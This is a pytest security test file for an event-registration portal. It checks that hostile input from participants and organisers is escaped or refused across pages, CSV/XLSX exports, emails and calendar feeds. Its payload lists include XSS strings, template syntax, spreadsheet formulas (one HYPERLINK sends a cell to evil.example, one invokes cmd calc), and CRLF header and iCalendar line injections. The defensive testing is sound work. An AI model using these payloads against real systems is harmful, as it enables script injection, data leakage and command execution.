"""Hostile input through every field into every place it appears.

Participants' fields (the public form and the manage page) and organisers' fields (events,
programmes) carry script tags, attribute breakers, template syntax and spreadsheet formulas;
each is then looked for on the public pages, the manage page, the back office's roster,
registration, check-in and audit pages, the CSV and XLSX exports, the emails and the feeds,
and must be shown as text: escaped in HTML and XML, JSON-escaped in JSON-LD, escaped by the
iCalendar rules, neutralised in spreadsheets, one line in email headers. Control characters
(CRLF, NUL, bidirectional overrides) and oversized values are refused at the form instead.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
from email import message_from_bytes, policy
from html.parser import HTMLParser
from xml.etree import ElementTree

import icalendar
import pytest
from markupsafe import escape
from openpyxl import load_workbook
from sqlalchemy import func, select

from portal.mail.transports import Envelope, build_message
from portal.models import Admission, Event, OutboxMessage, Programme, Registration
from tests.conftest import csrf_from
from tests.web.backoffice.conftest import post, token
from tests.web.security.test_headers import inline_code

# Accepted by the forms (they are plain text a person might type), so they must be escaped
# wherever they are shown. At most 100 characters: the shortest field limit (rank).
SHOWN = [
    '<script>alert("x")</script>',
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)' data-x='",
    "</textarea></title><svg onload=alert(1)>",
    "{{ 7*7 }} {% raw %} ${7*7}",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "]]><!-- &amp; &#x3C;b>",
]
# Refused by every text field: they break headers and lines (CRLF), PostgreSQL (NUL), or
# make a name read as something else (bidirectional overrides and isolates).
REFUSED = [
    "Ann\r\nBcc: victim@example.org",
    "Ann\nLee",
    "Ann\x00Lee",
    "Ann \u202eeeL",
    "Ann \u2067x\u2069",
    "Ann\x1b[31mLee",
]
ONE_MB = "A" * (1024 * 1024)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

PARTICIPANT_FIELDS = ["name", "organisation", "position", "rank", "service", "country", "nominating_authority"]


@pytest.fixture
def settings(settings):  # type: ignore[no-untyped-def]
    # Many registrations from one test client within a minute: no rate limits here.
    return dataclasses.replace(settings, registrations_per_ip_per_minute=0, registrations_per_email_per_minute=0)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)


def injected(html: str, *, email: bool = False) -> list[str]:
    """Markup a payload would have added had it not been escaped. (Emails style their markup
    inline, as mail clients need; no payload here holds a style attribute.)"""
    parser = _Tags()
    parser.feed(html)
    found = [f for f in inline_code(html) if not (email and f.startswith("a style attribute"))]
    return found + [t for t in parser.tags if t in ("img", "iframe", "object", "embed", "base")]


_JSON_LD = re.compile(r'<script type="application/ld\+json">.*?</script>', re.S)


def shown_escaped(html: str, payloads: list[str], where: str, *, email: bool = False, shown: bool = True) -> None:
    """No payload added markup; each is shown, escaped, and nowhere raw. (JSON-LD is JSON:
    test_organisers_text_in_json_ld_cannot_leave_its_script checks it.)"""
    assert injected(html, email=email) == [], where
    html = _JSON_LD.sub("", html)
    for payload in payloads:
        if not shown:
            assert payload not in html or not any(c in payload for c in "<>\"'&"), where
            continue
        assert str(escape(payload)) in html, f"{payload!r} is not shown on {where}"
        if any(c in payload for c in "<>\"'&"):
            assert payload not in html, f"{payload!r} is shown unescaped on {where}"


# --- participants' fields -----------------------------------------------------------------------


@pytest.fixture
def hostile_roster(client, make_programme, migrated_form, make_event, manage_link):  # type: ignore[no-untyped-def]
    """One registration per SHOWN payload, that payload in every text field, through the form."""
    programme = make_programme(code="appsmo", admission=Admission.NOMINATION)
    migrated_form(programme)
    event = make_event(programme_id=programme.id, capacity=None)
    csrf = csrf_from(client.get(f"/events/{event.slug}/register").text)
    people = []
    for n, payload in enumerate(SHOWN):
        email = f"hostile{n}@example.org"
        data = {field: payload for field in PARTICIPANT_FIELDS}
        response = client.post(
            f"/events/{event.slug}/register", data={**data, "email": email, "consent": "y", "csrf_token": csrf}
        )
        assert response.status_code == 303, (payload, response.text[:2000])
        people.append((payload, email, manage_link(email)))
    return event, people


def test_participants_text_is_escaped_on_their_own_pages_and_in_their_emails(client, hostile_roster, sessions):
    event, people = hostile_roster
    for payload, _email, key in people:
        shown_escaped(client.get(f"/registrations/{key}").text, [payload], "the manage page")
        shown_escaped(client.get(f"/registrations/{key}/cancel").text, [payload], "the cancel page", shown=False)
    # The stored text is exactly what was typed.
    with sessions() as session:
        rows = session.scalars(select(Registration).order_by(Registration.id)).all()
    assert [(r.name, r.organisation, r.answers["rank"]) for r in rows] == [(p, p, p) for p, _, _ in people]
    _emails_show_it_escaped(sessions, people)


def test_participants_text_is_escaped_in_the_back_office_and_neutralised_in_exports(admin_client, hostile_roster, sessions):
    event, people = hostile_roster
    payloads = [p for p, _, _ in people]
    shown_escaped(admin_client.get(f"/admin/events/{event.slug}").text, payloads, "the roster")
    # Pending applicants are not at the door: the list shows them only when searched for.
    shown_escaped(admin_client.get(f"/admin/events/{event.slug}/check-in").text, payloads, "the check-in page", shown=False)
    with sessions() as session:
        ids = session.scalars(select(Registration.id).order_by(Registration.id)).all()
    for (payload, _email, _key), registration_id in zip(people, ids, strict=True):
        shown_escaped(admin_client.get(f"/admin/registrations/{registration_id}").text, [payload], "the registration page")
        # Searching for it puts it in the search box as well as in the rows.
        for path in (f"/admin/events/{event.slug}", f"/admin/events/{event.slug}/check-in"):
            found = admin_client.get(path, params={"q": payload})
            assert found.status_code == 200, (path, payload)
            shown_escaped(found.text, [payload], f"{path}?q=")
    # An organiser's action puts the registration in the audit trail.
    response = post(admin_client, f"/admin/registrations/{ids[0]}/action", {"action": "cancel", "confirmed": "yes"}, token_from=f"/admin/registrations/{ids[0]}")
    assert response.status_code == 303
    shown_escaped(admin_client.get(f"/admin/events/{event.slug}/audit").text, [people[0][0]], "the audit page")
    _exports_hold_no_formula(admin_client, event, set(payloads))


def _exports_hold_no_formula(admin_client, event, payloads):  # type: ignore[no-untyped-def]
    as_csv = admin_client.get(f"/admin/events/{event.slug}/export.csv")
    assert as_csv.status_code == 200
    rows = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    as_xlsx = admin_client.get(f"/admin/events/{event.slug}/export.xlsx")
    assert as_xlsx.status_code == 200
    workbook = load_workbook(io.BytesIO(as_xlsx.content))
    sheet_cells = [cell for row in workbook.active.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in sheet_cells)
    # CSV has no types: whatever a spreadsheet would run gets an apostrophe. An XLSX string
    # cell is text and never run; only a string starting with "=" (which openpyxl would make
    # a formula) gets one there.
    strings = [c.value for c in sheet_cells if isinstance(c.value, str)]
    for values, danger in ((cells, FORMULA_START), (strings, ("=",))):
        assert not [v for v in values if v.startswith(danger)]
        for payload in payloads:
            shown = "'" + payload if payload.startswith(danger) else payload
            assert values.count(shown) >= len(PARTICIPANT_FIELDS), payload


def _emails_show_it_escaped(sessions, people):  # type: ignore[no-untyped-def]
    with sessions() as session:
        messages = {m.to_address: m for m in session.scalars(select(OutboxMessage))}
    for payload, email, _key in people:
        message = messages[email]
        shown_escaped(message.body_html, [payload], f"the email to {email}", email=True)
        assert payload in message.body_text  # plain text: shown as typed
        raw = build_message("portal@example.org", Envelope(
            id=1, to_address=message.to_address, subject=message.subject, body_text=message.body_text,
            body_html=message.body_html, attachments=message.attachments,
        )).as_bytes()
        parsed = message_from_bytes(raw, policy=policy.default)
        assert parsed.get_all("To") == [email] and parsed.get_all("Bcc") is None


def test_control_characters_are_refused_in_every_participant_field(client, make_programme, migrated_form, make_event, sessions, make_registration):
    programme = make_programme(code="appsmo", admission=Admission.NOMINATION)
    migrated_form(programme)
    event = make_event(programme_id=programme.id)
    existing = make_registration(event, name="Ann", answers={f: "Valid text" for f in PARTICIPANT_FIELDS[2:]})
    valid = {field: "Valid text" for field in PARTICIPANT_FIELDS} | {"email": "ann@example.org", "consent": "y"}
    csrf = csrf_from(client.get(f"/events/{event.slug}/register").text)
    for payload in REFUSED:
        for field in [*PARTICIPANT_FIELDS, "email", "nominator_email"]:
            response = client.post(f"/events/{event.slug}/register", data={**valid, field: payload, "csrf_token": csrf})
            assert response.status_code == 422, (payload, field, response.status_code)
            assert "Remove the control characters" in response.text, (payload, field)
            assert injected(response.text) == []
        # The manage page's fields refuse the same.
        for field in PARTICIPANT_FIELDS:
            details = {f: "Valid text" for f in PARTICIPANT_FIELDS} | {field: payload, "csrf_token": csrf}
            assert client.post(f"/registrations/{existing.token}", data=details).status_code == 422, (payload, field)
    with sessions() as session:
        assert session.scalar(select(func.count()).select_from(Registration)) == 1
        assert session.get_one(Registration, existing.id).name == "Ann"


def test_a_one_megabyte_value_is_refused_in_every_field(client, make_programme, migrated_form, make_event, make_registration, sessions):
    programme = make_programme(code="appsmo", admission=Admission.NOMINATION)
    migrated_form(programme)
    event = make_event(programme_id=programme.id)
    existing = make_registration(event, name="Ann")
    csrf = csrf_from(client.get(f"/events/{event.slug}/register").text)
    for field in [*PARTICIPANT_FIELDS, "email", "nominator_email", "consent", "website", "csrf_token"]:
        for path in (f"/events/{event.slug}/register", f"/registrations/{existing.token}"):
            response = client.post(path, data={"name": "Ann", "email": "ann@example.org", "csrf_token": csrf, field: ONE_MB})
            assert response.status_code == 413, (field, path)
            assert "larger than the portal accepts" in response.text
    with sessions() as session:
        assert session.scalar(select(func.count()).select_from(Registration)) == 1


def test_a_statement_cannot_close_its_textarea(client, make_programme, migrated_form, make_event, manage_link):
    programme = make_programme(code="isf-asia", admission=Admission.APPLICATION)
    migrated_form(programme)
    event = make_event(programme_id=programme.id)
    statement = "</textarea><script>alert(1)</script>\n" + "I study maritime law & <b>security</b>. " * 3
    csrf = csrf_from(client.get(f"/events/{event.slug}/register").text)
    response = client.post(
        f"/events/{event.slug}/register",
        data={"name": "Ann", "email": "ann@example.org", "consent": "y", "statement": statement, "csrf_token": csrf},
    )
    assert response.status_code == 303
    page = client.get(f"/registrations/{manage_link('ann@example.org')}").text
    assert injected(page) == []
    assert "&lt;/textarea&gt;&lt;script&gt;" in page and "</textarea><script>" not in page


# --- organisers' fields --------------------------------------------------------------------------


@pytest.fixture
def hostile_event(make_programme, make_event, make_registration):  # type: ignore[no-untyped-def]
    """An event whose every organiser-written text is hostile (as an import could bring it)."""
    programme = make_programme(code="hostile", name=SHOWN[0], summary=SHOWN[1], description=f"{SHOWN[2]}\n\n{SHOWN[0]}")
    event = make_event(
        programme_id=programme.id, title=SHOWN[1], venue=SHOWN[2], address=SHOWN[3],
        description=f"{SHOWN[0]}\n\n[click](javascript:alert(1))\n\n<img src=x onerror=alert(1)>",
        speakers=[SHOWN[4], SHOWN[9]], capacity=None,
    )
    registration = make_registration(event, name="Ann")
    return programme, event, registration


def test_organisers_text_is_escaped_on_every_public_page(client, hostile_event):
    programme, event, registration = hostile_event
    pages = {
        "/": [SHOWN[1]],
        "/events": [SHOWN[1]],
        f"/events?q={event.slug}": [],
        f"/events/{event.slug}": [SHOWN[1], SHOWN[2], SHOWN[3], SHOWN[4], SHOWN[9], SHOWN[0]],
        f"/events/{event.slug}/register": [SHOWN[1]],
        f"/events/{event.slug}/registered": [SHOWN[1]],
        "/programmes": [SHOWN[0], SHOWN[1]],
        # (The description is Markdown: its quotes are text, which needs no escaping.)
        f"/programmes/{programme.code}": [SHOWN[0]],
        f"/registrations/{registration.token}": [SHOWN[1]],
    }
    for path, payloads in pages.items():
        response = client.get(path)
        assert response.status_code == 200, path
        shown_escaped(response.text, payloads, path)
        assert 'href="javascript:' not in response.text.lower(), path


def test_organisers_text_in_json_ld_cannot_leave_its_script(client, hostile_event):
    _programme, event, _registration = hostile_event
    page = client.get(f"/events/{event.slug}").text
    [block] = re.findall(r'<script type="application/ld\+json">(.*?)</script>', page, re.S)
    assert "<" not in block
    assert json.loads(block)["name"] == SHOWN[1]


def test_organisers_text_is_escaped_in_the_feeds(client, hostile_event):
    programme, event, registration = hostile_event
    for path in ("/calendar.ics", f"/programmes/{programme.code}/calendar.ics", f"/events/{event.slug}/calendar.ics",
                 f"/registrations/{registration.token}/calendar.ics"):
        response = client.get(path)
        assert response.status_code == 200, path
        [vevent] = [c for c in icalendar.Calendar.from_ical(response.content).walk("VEVENT")]
        assert str(vevent["SUMMARY"]) == SHOWN[1], path
        assert SHOWN[2] in str(vevent["LOCATION"]), path
    atom = client.get("/events.atom")
    assert atom.status_code == 200
    titles = [e.text for e in ElementTree.fromstring(atom.content).iter("{http://www.w3.org/2005/Atom}title")]
    assert SHOWN[1] in titles
    assert b"<img" not in atom.content and b"<script" not in atom.content


def test_line_breaks_in_organisers_text_cannot_add_lines_to_a_feed_or_an_email(client, make_event, sessions):
    # The forms refuse line breaks in a title; an import or an old row might still hold one.
    event = make_event(title="Talk\r\nATTENDEE:mailto:evil@example.org\r\nX", venue="Hall\nORGANIZER:mailto:x@example.org")
    feed = client.get(f"/events/{event.slug}/calendar.ics").content.decode()
    assert not re.search(r"^(ATTENDEE|ORGANIZER)", feed, re.M)
    csrf = csrf_from(client.get(f"/events/{event.slug}/register").text)
    response = client.post(f"/events/{event.slug}/register", data={"name": "Ann", "email": "ann@example.org", "consent": "y", "csrf_token": csrf})
    assert response.status_code == 303
    with sessions() as session:
        [message] = session.scalars(select(OutboxMessage)).all()
    assert "\n" not in message.subject and "\r" not in message.subject
    raw = build_message("portal@example.org", Envelope(
        id=1, to_address=message.to_address, subject=message.subject, body_text=message.body_text,
        body_html=message.body_html, attachments=message.attachments,
    )).as_bytes()
    parsed = message_from_bytes(raw, policy=policy.default)
    assert {k.lower() for k in parsed.keys()} <= {"from", "to", "subject", "date", "message-id", "mime-version", "content-type"}
    assert parsed["Subject"].endswith("Talk ATTENDEE:mailto:evil@example.org X")


def test_organisers_text_is_escaped_in_the_back_office(admin_client, hostile_event):
    programme, event, registration = hostile_event
    for path, payloads in {
        "/admin/": [SHOWN[1]],
        "/admin/events": [SHOWN[1]],
        f"/admin/events/{event.slug}": [SHOWN[1]],
        f"/admin/events/{event.slug}/edit": [SHOWN[1], SHOWN[2], SHOWN[3]],
        f"/admin/events/{event.slug}/check-in": [SHOWN[1]],
        f"/admin/registrations/{registration.id}": [SHOWN[1]],
        "/admin/programmes": [SHOWN[0]],
        f"/admin/programmes/{programme.code}/edit": [SHOWN[0], SHOWN[1]],
    }.items():
        response = admin_client.get(path)
        assert response.status_code == 200, path
        shown_escaped(response.text, payloads, path)


EVENT_TEXT_FIELDS = ["title", "venue", "address", "description", "speakers"]
NEW_EVENT = {
    "title": "Roundtable", "slug": "roundtable-2027", "programme": "", "category": "roundtable",
    "timezone": "Asia/Singapore", "starts_at": "2027-03-08T09:00", "ends_at": "2027-03-08T17:00",
    "venue": "RSIS", "address": "", "capacity": "40", "description": "", "speakers": "",
}


def test_organisers_fields_refuse_control_characters_and_huge_values(admin_client, sessions):
    csrf = token(admin_client, "/admin/events/new")
    fields = {
        "/admin/events/new": (NEW_EVENT, EVENT_TEXT_FIELDS),
        "/admin/programmes/new": ({"code": "prog", "name": "Programme", "admission": "open", "summary": "", "description": ""},
                                  ["name", "summary", "description"]),
        "/admin/organisers": ({"email": "new@example.org", "name": "New", "password": "a long enough password"}, ["email", "name"]),
    }
    # Line breaks are allowed in the multi-line fields (description, speakers), so not tried.
    for payload in [p for p in REFUSED if "\n" not in p] + [ONE_MB]:
        for path, (valid, names) in fields.items():
            for name in names:
                response = admin_client.post(path, data={**valid, name: payload, "csrf_token": csrf})
                expected = 413 if payload is ONE_MB else 422
                assert response.status_code == expected, (payload[:20], path, name, response.status_code)
                assert injected(response.text) == []
    with sessions() as session:
        assert session.scalar(select(func.count()).select_from(Event)) == 0
        assert session.scalar(select(func.count()).select_from(Programme)) == 0
